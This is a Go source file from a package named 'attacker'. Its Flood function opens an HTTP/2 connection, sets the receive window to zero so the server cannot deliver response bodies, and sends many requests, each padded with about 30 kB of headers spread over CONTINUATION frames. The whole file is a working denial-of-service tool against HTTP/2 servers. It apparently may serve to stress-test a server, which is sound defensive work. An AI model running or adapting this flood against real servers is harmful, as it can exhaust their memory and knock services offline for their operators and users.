package attacker

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Flood begins HTTP/2 on a connection, takes no byte of an answer's body, and sends n requests for the path with 30 kB of
// headers each. It returns an error if the other end does not speak HTTP/2, or closes the connection before the first
// request.
func (a *Attacker) Flood(raw net.Conn, path string, n int) error {
	config := a.TLS()
	config.NextProtos = []string{"h2", "http/1.1"}
	c := tls.Client(raw, config)
	raw.SetDeadline(time.Now().Add(2 * time.Minute)) // it fails on use
	if err := c.Handshake(); err != nil {
		return err
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		return fmt.Errorf("attacker: no HTTP/2, but %q", p)
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	f := http2.NewFramer(c, c)
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for acked := false; !acked; {
		frame, err := f.ReadFrame()
		if err != nil {
			return err
		}
		if s, ok := frame.(*http2.SettingsFrame); ok && !s.IsAck() {
			acked = f.WriteSettingsAck() == nil
		}
	}
	go io.Copy(io.Discard, c) // so that the other end can write all that it may
	for i := range n {
		var head bytes.Buffer
		e := hpack.NewEncoder(&head)
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "x"}, {":path", path}} {
			e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) //nolint:errcheck // a buffer
		}
		for j := range 10 {
			e.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", j), Value: strings.Repeat("~", 3000), Sensitive: true}) //nolint:errcheck // a buffer
		}
		id := uint32(2*i + 1)
		part := head.Next(16 << 10)
		sent := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndStream: true, EndHeaders: head.Len() == 0}) == nil
		for sent && head.Len() > 0 {
			part = head.Next(16 << 10)
			sent = f.WriteContinuation(id, head.Len() == 0, part) == nil
		}
		if !sent {
			break // it has had enough
		}
	}
	return nil
}
